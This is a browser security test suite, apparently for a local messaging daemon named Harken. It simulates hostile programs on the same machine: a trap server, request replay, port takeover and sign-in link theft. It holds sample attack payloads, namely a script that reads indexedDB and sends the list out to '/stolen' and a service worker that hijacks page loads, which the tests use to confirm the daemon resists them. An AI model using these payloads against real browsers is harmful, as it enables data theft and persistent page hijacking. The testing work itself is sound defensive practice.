"""Programs of others on this machine, at another port or at the page's own: what a browser hands them is worth nothing.

Each stands for another account: a server that collects whatever it is sent and tries it on the daemon. That the daemon
does not even talk to other accounts, where the system tells, is tested apart; here everything comes from this one.
"""

from __future__ import annotations

import http.client
import threading
from collections.abc import Iterator, Mapping
from contextlib import closing, contextmanager
from dataclasses import dataclass, field
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from typing import Final
from urllib.parse import urlsplit

import pytest
from playwright.sync_api import Request, expect

from tests.browser.rig import AWAY, Site, Window, only_expected
from tests.loss.rig import WAIT_SECONDS, until

NOT_SENT_AGAIN: Final = frozenset({"host", "connection", "content-length", "accept-encoding"})
STEAL: Final = b"""<!doctype html><title>free</title><p>fabricated</p>
<script>try { indexedDB.databases().then((all) => fetch("/stolen?" + JSON.stringify(all))); } catch {}</script>"""


@dataclass(frozen=True, slots=True, kw_only=True)
class Caught:
    """A request that a stranger was sent."""

    method: str
    path: str
    headers: Mapping[str, str]
    body: bytes


@dataclass(slots=True)
class Trap:
    """A stranger's server: it keeps what it is sent."""

    server: ThreadingHTTPServer
    caught: list[Caught] = field(default_factory=list)

    @property
    def url(self) -> str:
        """Where it listens."""
        return f"http://127.0.0.1:{self.server.server_port}"

    def has_caught(self, path: str) -> bool:
        """Whether something was asked of it."""
        return any(each.path.startswith(path) for each in self.caught)


@contextmanager
def trap(port: int = 0, status: int = 200, answer: bytes = STEAL, script: bytes = b"") -> Iterator[Trap]:
    """Listen as a stranger does, and answer everything with the same, but for a script."""

    def take(self: BaseHTTPRequestHandler) -> None:
        body = self.rfile.read(int(self.headers.get("content-length") or 0))
        headers = {name.lower(): value for name, value in self.headers.items()}
        found.caught.append(Caught(method=self.command, path=self.path, headers=headers, body=body))
        is_script = self.path.endswith(".js")
        body = script if is_script else answer
        self.send_response(status)
        self.send_header("Content-Type", "text/javascript" if is_script else "text/html")
        self.send_header("Service-Worker-Allowed", "/")
        self.send_header("Content-Length", str(len(body)))
        self.end_headers()
        self.wfile.write(body)

    quiet = {"log_message": lambda _self, *_words: None}
    handler = type("Handler", (BaseHTTPRequestHandler,), {"do_GET": take, "do_POST": take, **quiet})
    with ThreadingHTTPServer(("127.0.0.1", port), handler) as server:
        server.daemon_threads = True
        found = Trap(server)
        thread = threading.Thread(target=server.serve_forever, kwargs={"poll_interval": 0.01})
        thread.start()
        try:
            yield found
        finally:
            server.shutdown()
            thread.join(WAIT_SECONDS)


def replayed(origin: str, caught: Caught, **changed: str) -> int:
    """Send a request again to the daemon, as a program can: with any header it likes; return the status."""
    kept = {name: value for name, value in caught.headers.items() if name not in NOT_SENT_AGAIN}
    headers = {**kept, "origin": origin, "sec-fetch-site": "same-origin", "accept": "*/*"}
    with closing(http.client.HTTPConnection(urlsplit(origin).netloc, timeout=WAIT_SECONDS)) as there:
        there.request(
            changed.get("method", caught.method), changed.get("path", caught.path), caught.body or None, headers
        )
        return there.getresponse().status


STAY: Final = b"""<!doctype html><title>free</title><h1>fabricated</h1><script>
navigator.serviceWorker.register("/deep/down/stay.js", { scope: "/" }).then(() => navigator.serviceWorker.ready)
  .then(() => fetch("/stays"));
</script>"""
STAYING: Final = b"""
self.addEventListener("install", () => self.skipWaiting());
self.addEventListener("activate", (event) => event.waitUntil(self.clients.claim()));
self.addEventListener("fetch", (event) => event.request.mode === "navigate" && event.respondWith(
  new Response("<!doctype html><h1>fabricated</h1>", { headers: { "Content-Type": "text/html" } })));
"""
WORKERS: Final = "async () => (await navigator.serviceWorker.getRegistrations()).length"
DEEDS: Final = (
    ("POST", "/api/send"),
    ("POST", "/api/allow"),
    ("POST", "/api/list"),
    ("GET", "/events"),
    ("GET", "/m/inbox"),
)


@pytest.fixture
def signed_in() -> None:
    """Each test signs a browser in for itself: what strangers do to that one must not reach the next."""


def test_server_at_another_port_gets_nothing_of_worth_from_the_browser(site: Site) -> None:
    """One click on a link is enough to be there; a cookie would go along, with the picture of the site too."""
    window = site.window()
    with trap() as stranger:
        window.page.goto(f"{stranger.url}/anything")
        until(lambda: stranger.has_caught("/stolen"), "the stranger's script ran")
        for caught in list(stranger.caught):
            assert "cookie" not in caught.headers
            assert not [name for name in caught.headers if name.startswith(("harken", "authorization"))]
            for method, path in DEEDS:
                assert replayed(site.origin, caught, method=method, path=path) == 401
        assert any("%22harken%22" in each.path for each in stranger.caught) is False, "storage is kept apart by port"
    assert site.texts() == []


@pytest.mark.parametrize(("status", "answer"), [(200, STEAL), (401, b"{}"), (404, b"")])
def test_program_that_takes_the_port_gets_nothing_that_works_later(site: Site, status: int, answer: bytes) -> None:
    """A tab is open, the daemon is down for a moment, somebody else binds the port: its tries to connect go there."""
    window = site.window()
    port = urlsplit(site.origin).port or 0
    site.daemon.kill()
    with trap(port, status, answer) as stranger:
        until(lambda: stranger.has_caught("/events"), "the tab tried to connect")
        window.say("meant for Harken")
        until(lambda: stranger.has_caught("/do/send"), "the tab tried to send")
        expect(window.outlook).to_contain_text("Not sent")
        expect(window.page.locator("body")).not_to_contain_text("fabricated")
        caught = list(stranger.caught)
    assert all("cookie" not in each.headers for each in caught)
    site.restart()
    assert {replayed(site.origin, each) for each in caught} <= {401}
    expect(window.page.locator("#connection")).to_be_hidden()
    assert site.texts() == [], "only the person sends it, once more"
    window.field.press("Enter")
    expect(window.items).to_have_count(1)
    assert site.texts() == ["meant for Harken"]
    assert only_expected(window.complaints, (*AWAY, "401", "404")) == []


def test_tab_says_that_another_program_answers(site: Site) -> None:
    """Whoever waits for an agent must not take silence for peace, nor a stranger for Harken."""
    window = site.window()
    port = urlsplit(site.origin).port or 0
    site.daemon.kill()
    with trap(port):
        expect(window.page.locator("#connection")).to_contain_text("Another program answers at this address")
        expect(window.page.locator("#connection")).to_contain_text("harken open")


def test_worker_that_a_stranger_left_in_the_browser_goes_when_harken_is_back(site: Site) -> None:
    """Whoever had the port may have made themselves the master of its pages: not for longer than the first look."""
    window = site.window()
    site.daemon.kill()
    with trap(urlsplit(site.origin).port or 0, answer=STAY, script=STAYING) as stranger:
        window.page.goto(f"{site.origin}/conversations")
        until(lambda: stranger.has_caught("/stays"), "the stranger's worker is there")
    site.restart()
    window.page.goto(f"{site.origin}/conversations")
    expect(window.page.get_by_role("heading", level=1)).to_have_text("fabricated")
    expect(window.page.get_by_role("heading", level=1)).to_have_text("Inbox")
    window.ready()
    until(lambda: window.page.evaluate(WORKERS) == 0, "no worker is left")
    window.reload()
    expect(window.page.get_by_role("heading", level=1)).to_have_text("Inbox")


def test_request_that_was_captured_does_nothing_a_second_time(site: Site) -> None:
    """Also with everything the same: it was done, and is not done again."""
    window = site.window()
    seen: list[Request] = []

    def note(request: Request) -> None:
        seen.append(request)

    window.page.on("request", note)
    window.say("once")
    expect(window.items).to_have_count(1)
    for request in seen:
        place = urlsplit(request.url)
        caught = Caught(
            method=request.method,
            path=f"{place.path}?{place.query}" if place.query else place.path,
            headers=request.all_headers(),
            body=request.post_data_buffer or b"",
        )
        assert "cookie" not in caught.headers
        assert replayed(site.origin, caught) == 401, caught
    assert any("/do/send" in request.url for request in seen)
    assert site.texts() == ["once"]


def test_link_is_worth_nothing_to_a_program_that_took_the_port(site: Site) -> None:
    """The secret is not sent; what is sent opens nothing, and the page does not believe who cannot know it."""
    link = site.daemon.call("sign_in")["url"]
    secret = link.partition("#")[2]
    window = Window(site.context().new_page(), site.origin)
    window.page.route(
        "**/sign-in",
        lambda route: (
            route.continue_()
            if route.request.method == "GET"
            else route.fulfill(json={"session": "x", "key": "A" * 43, "proof": "A" * 43})
        ),
    )
    sent: list[str] = []
    window.page.on("request", lambda request: sent.append(f"{request.url} {request.all_headers()} {request.post_data}"))
    window.page.goto(link)
    expect(window.page.locator("#stranger")).to_contain_text("Another program answers")
    assert not [each for each in sent if secret in each]
    assert window.page.evaluate("() => harken.own()") is None
    window.page.unroute("**/sign-in")
    window.enter(link)
    expect(window.items).to_have_count(0)


def test_second_link_in_the_same_tab_signs_in_however_early_it_comes(site: Site) -> None:
    """Only what is behind the # differs, so the browser loads nothing: the link must not be spent on nothing."""
    links = [site.daemon.call("sign_in")["url"] for _ in range(3)]
    window = Window(site.context().new_page(), site.origin)
    second = links[1].partition("#")[2]
    window.page.add_init_script(
        "addEventListener('DOMContentLoaded', () => {"
        f" if (location.hash && !sessionStorage.came) {{ sessionStorage.came = 1; location.hash = '{second}'; }} }});"
    )
    window.enter(links[0])
    window.enter(links[2])
    expect(window.page.locator("h1")).to_be_visible()
    window.goto("/sign-in")
    expect(window.page.locator("h1").locator("visible=true")).to_have_text("Inbox")


def test_key_cannot_be_read_by_scripts(site: Site) -> None:
    """A program at the same port could run scripts in the page's place: the key must not be theirs to take away."""
    window = site.window()
    asked = (
        "async () => crypto.subtle.exportKey('raw', (await harken.own()).key).then(() => 'read', ({ name }) => name)"
    )
    assert window.page.evaluate(asked) == "InvalidAccessError"
    assert window.page.context.cookies() == []


def test_key_is_renewed_and_every_tab_goes_on(site: Site) -> None:
    """A copy of the browser's files is worth less each day; the person notices nothing."""
    window = site.window()
    other = Window(window.page.context.new_page(), site.origin)
    other.goto("/m/inbox")
    aged = "async () => { const { session, key } = await harken.own(); await harken.keep(session, key, 1); }"
    window.page.evaluate(aged)
    window.reload()
    until(lambda: window.page.evaluate("async () => (await harken.own()).since > 1"), "the key is renewed")
    for each in (window, other):
        each.say("goes on")
        expect(each.outlook).to_contain_text("Sent")
    site.daemon.kill()
    site.restart()
    other.reload()
    expect(other.items).to_have_count(2)
